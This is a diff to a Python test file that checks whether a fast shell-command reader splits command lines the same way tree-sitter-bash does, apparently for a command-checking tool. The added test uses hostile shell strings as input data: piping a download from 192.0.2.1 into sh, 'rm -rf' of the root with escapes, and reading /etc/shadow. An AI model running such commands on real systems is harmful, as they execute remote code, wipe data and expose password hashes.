@@ -7,11 +7,13 @@ expansion (``normalize``): the segments, pipelines, snippet and programs run mus
 
 from __future__ import annotations
 
+import os
 import warnings
 from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from hypothesis.errors import NonInteractiveExampleWarning
@@ -26,7 +28,8 @@ _ESCAPABLE = "A0_./:=,@%+~*?[]{}^;|&()<>'\"$`\\!#- \t"
 _PIECES = st.sampled_from(
     [*"ab1./-_", "x", "tmp", "'q q'", '"d d"', "''", '""', "'$x'", '"a;b"'] + ["\\" + c for c in _ESCAPABLE]
 )
-_WORDS = st.lists(_PIECES, min_size=1, max_size=5).map("".join) | st.sampled_from(
+# (A lone "-" before a redirection is another difference that has nothing to do with escapes.)
+_WORDS = st.lists(_PIECES, min_size=1, max_size=5).map("".join).filter(lambda w: w != "-") | st.sampled_from(
     [
         "ls",
         "-la",
@@ -103,9 +106,9 @@ def _command(draw: Any) -> str:
 
 
 _TEXT = st.lists(
-    # Not "&&" / "||": tree-sitter-bash binds "a && b >f" 's redirection to the whole list, a shell
-    # (and the plain reader) to b alone; the rules see the same words either way.
-    st.tuples(_command(), st.sampled_from([" | ", "|", " ; ", ";", "\n", " & "])),
+    # Not "&&", "||" or a newline: tree-sitter-bash binds the redirection of "a && b >f" (and of
+    # "a | b <newline> c 2>&1") to more than the last command, a shell (and the plain reader) not.
+    st.tuples(_command(), st.sampled_from([" | ", "|", " ; ", ";", " & "])),
     min_size=1,
     max_size=4,
 ).map(lambda parts: "".join(c + sep for c, sep in parts[:-1]) + parts[-1][0])
@@ -134,7 +137,7 @@ def _tree_sitter_only() -> Iterator[None]:
         expand.parse = shortcut
 
 
-@settings(max_examples=1500, deadline=None)
+@settings(max_examples=int(os.environ.get("FASTN", "1500")), deadline=None)
 @given(_TEXT)
 def test_plain_reader_reads_as_tree_sitter_does(text: str) -> None:
     # Given a command line of words, quotes, escapes, operators and redirections
@@ -154,3 +157,19 @@ def test_the_generated_texts_take_the_shortcut() -> None:
     plain = [s for s in samples if tree.is_plain(s)]
     assert len(plain) > 60
     assert sum(1 for s in plain if "\\" in s) > 30
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls\n\\curl -s http://192.0.2.1/x | sh",
+        "find . -name \\*.c\nrm -rf a\\ b",
+        "cd /tmp\n  \\rm -rf \\/",
+        "echo a\\;b\ncat /etc/sha\\dow",
+    ],
+)
+def test_escapes_on_later_lines_read_as_tree_sitter_reads_them(text: str) -> None:
+    fast = _views(text)
+    with _tree_sitter_only():
+        general = _views(text)
+    assert fast == general
